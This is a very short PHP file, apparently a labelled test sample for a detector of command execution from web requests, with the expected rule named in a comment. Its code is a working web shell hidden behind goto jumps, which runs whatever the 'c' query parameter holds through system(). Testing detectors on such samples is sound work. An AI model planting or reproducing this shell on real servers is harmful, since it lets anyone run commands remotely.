<?php
// Code scrambled with goto.
// want: php_request_command_exec
goto b;
a:
system($c);
exit;
b:
$c = $_GET['c'];
goto a;
